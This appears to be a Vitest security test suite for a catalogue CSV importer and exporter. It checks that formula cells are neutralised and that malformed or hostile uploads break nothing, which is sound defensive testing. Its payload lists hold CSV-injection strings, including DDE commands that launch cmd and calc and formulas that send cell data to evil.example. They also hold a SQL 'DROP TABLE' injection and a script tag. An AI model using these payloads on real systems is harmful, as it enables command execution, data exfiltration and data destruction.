import { describe, expect, test } from "vitest";
import { importCatalogue } from "#app/flows/merchant/import-catalogue.server.ts";
import { db } from "#app/db.server.ts";
import { decodeText, readCsv, unescapeFormula, writeCsv } from "#app/lib/csv.ts";
import { newMerchant, newSupplier } from "#tests/account.ts";
import { tally } from "#tests/security/tally.ts";

const formulas = tally("CSV formulas");
const files = tally("CSV files");

const PAYLOADS = [
  "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
  "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "+1+1", "+cmd|' /C calc'!A0", "-2+3", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1\"", "\"=1+1", "'=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u0000=1+1",
  // A spreadsheet that separates by another sign begins a cell in the middle of ours.
  "a;=1+1", "a;=cmd|' /C calc'!A0;b", "a\t=1+1", "a,=1+1", "a;\"=1+1\"", "\";=1+1;\"", "a\n=1+1", "a\r\n=1+1;x", "a;+1", "a;-1", "a;@SUM(1)", "a; =1+1", "a;＝1+1", "a|=1+1", "%0A=1+1", "=\"=1+1\"",
];

/** Cells as a spreadsheet would cut the file that separates by `separator` and knows quotes only at a cell's beginning. */
function cellsBy(text: string, separator: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= text.length; ) {
    let cell = "";
    if (text[at] === '"') {
      for (at += 1; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at += text[at] === '"' ? 2 : 1) cell += text[at];
      at += 1;
    }
    while (at < text.length && text[at] !== separator && text[at] !== "\n") cell += text[at++];
    cells.push(cell);
    at += 1;
  }
  return cells;
}

describe("A formula in a file we write", () => {
  test.each(formulas(PAYLOADS, 3))("%j begins no cell, however the spreadsheet separates", (payload) => {
    const text = writeCsv([["a", "b", "c"], ["x", payload, "y"]]).slice(1);
    for (const separator of [",", ";", "\t"]) {
      expect(cellsBy(text, separator).filter((cell) => /^[\s\p{Cf}\0]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    }
  });

  test.each(formulas(PAYLOADS.filter((payload) => !/^'|[\r\ufeff]/.test(payload))))("%j is read back as it was", async (payload) => {
    const records = [];
    for await (const { cells } of readCsv(writeCsv([["a", "b"], ["x", payload]]))) records.push(cells);
    expect(unescapeFormula(records[1]![1]!)).toBe(payload);
  });
});

const utf16 = (text: string, little = true) => {
  const bytes = Buffer.from(`\ufeff${text}`, "utf16le");
  return little ? bytes : bytes.swap16();
};
const HEAD = "gtin,cost,currency\n";
const LAMP = "4006381333931,1.00,EUR\n";

/** Files as people and attackers hand them in; how many goods they hold, or null where none of it is taken. */
const FILES: [what: string, bytes: Buffer, taken: number | null][] = [
  ["a byte order mark", Buffer.from(`\ufeff${HEAD}${LAMP}`), 1],
  ["two byte order marks", Buffer.from(`\ufeff\ufeff${HEAD}${LAMP}`), 1],
  ["UTF-16, little", utf16(HEAD + LAMP), 1],
  ["UTF-16, big", utf16(HEAD + LAMP, false), 1],
  ["UTF-16 cut within a sign", utf16(HEAD + LAMP).subarray(0, -1), 0],
  ["half a surrogate", Buffer.concat([utf16(`${HEAD}4006381333931,1.00,EUR`), Buffer.from([0x00, 0xd8])]), 0],
  ["a zero byte in a cell", Buffer.from(`${HEAD}4006381333931\0,1.00,EUR\n`), 0],
  ["nothing but zero bytes", Buffer.alloc(100_000), null],
  ["nothing", Buffer.alloc(0), null],
  ["only a mark", Buffer.from("\ufeff"), null],
  ["a picture", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), null],
  ["an Excel workbook", Buffer.from("504b0304140006000800000021", "hex"), null],
  ["a hundred thousand columns", Buffer.from(`${HEAD.trim()}${",x".repeat(100_000)}\n4006381333931,1.00,EUR${",y".repeat(100_000)}\n`), 1],
  ["a hundred thousand columns in one line alone", Buffer.from(`${HEAD}${",".repeat(100_000)}\n${LAMP}`), 1],
  ["a hundred thousand empty lines", Buffer.from(`${HEAD}${"\n".repeat(100_000)}${LAMP}`), 1],
  ["a cell of ten megabytes", Buffer.from(`${HEAD}4006381333931,1.00,EUR,${"x".repeat(10_000_000)}\n`), 1],
  ["a code of ten megabytes of line ends", Buffer.from(`${HEAD}"${"\n".repeat(10_000_000)}",1.00,EUR\n`), 0],
  ["a code of ten megabytes", Buffer.from(`${HEAD}${"4".repeat(10_000_000)},1.00,EUR\n`), 0],
  ["a price of a thousand digits", Buffer.from(`${HEAD}4006381333931,${"9".repeat(1000)},EUR\n`), 0],
  ["a price that is no number", Buffer.from(`${HEAD}4006381333931,1e999,EUR\n`), 0],
  ["a price below nothing", Buffer.from(`${HEAD}4006381333931,-1,EUR\n`), 0],
  ["a quotation that never ends", Buffer.from(`${HEAD}"4006381333931,1.00,EUR\n${"x\n".repeat(50_000)}`), null],
  ["quotes everywhere", Buffer.from(`${HEAD}${'"'.repeat(99_999)}\n`), null],
  ["columns named as every object's", Buffer.from("__proto__,constructor,gtin,cost,currency\nx,y,4006381333931,1.00,EUR\n"), 1],
  ["old Macintosh line ends", Buffer.from(`${HEAD}${LAMP}`.replaceAll("\n", "\r")), 1],
  ["unicode line ends", Buffer.from(`${HEAD}${LAMP}`.replaceAll("\n", "\u2028")), null],
  ["a separator of its own", Buffer.from(`sep=|\r\n${`${HEAD}${LAMP}`.replaceAll(",", "|")}`), 1],
  ["a separator that is a quote", Buffer.from(`sep="\r\n${HEAD}${LAMP}`), null],
  ["a separator that is a sign of two halves", Buffer.from(`sep=\u{1f600}\r\n${HEAD}${LAMP}`), null],
  ["SQL", Buffer.from(`${HEAD}4006381333931'; DROP TABLE Supplier;--,1.00,EUR\n`), 0],
  ["markup", Buffer.from(`${HEAD}<script>alert(1)</script>,1.00,EUR\n`), 0],
  ["full-width digits", Buffer.from(`${HEAD}４００６３８１３３３９３１,1.00,EUR\n`), 0],
  ["right-to-left signs", Buffer.from(`${HEAD}\u202e4006381333931,1.00,EUR\n`), 0],
];

describe("A file that somebody hands in", () => {
  test.each(files(FILES))("with %s breaks nothing", async (_what, bytes, taken) => {
    const { accountId } = await newMerchant();
    const supplierId = await newSupplier(accountId, "ACME");
    const result = await importCatalogue({ accountId, supplierId, csv: new Uint8Array(bytes), mode: "replace", currency: "EUR" });
    expect(result && !result.ok ? null : await db.catalogueItem.count({ where: { supplierId } })).toBe(taken);
  });

  test("is read as text whatever its bytes are", () => {
    for (let first = 0; first < 256; first += 1) expect(typeof decodeText(new Uint8Array([first, 0xfe, 0x00, first]))).toBe("string");
  });
});
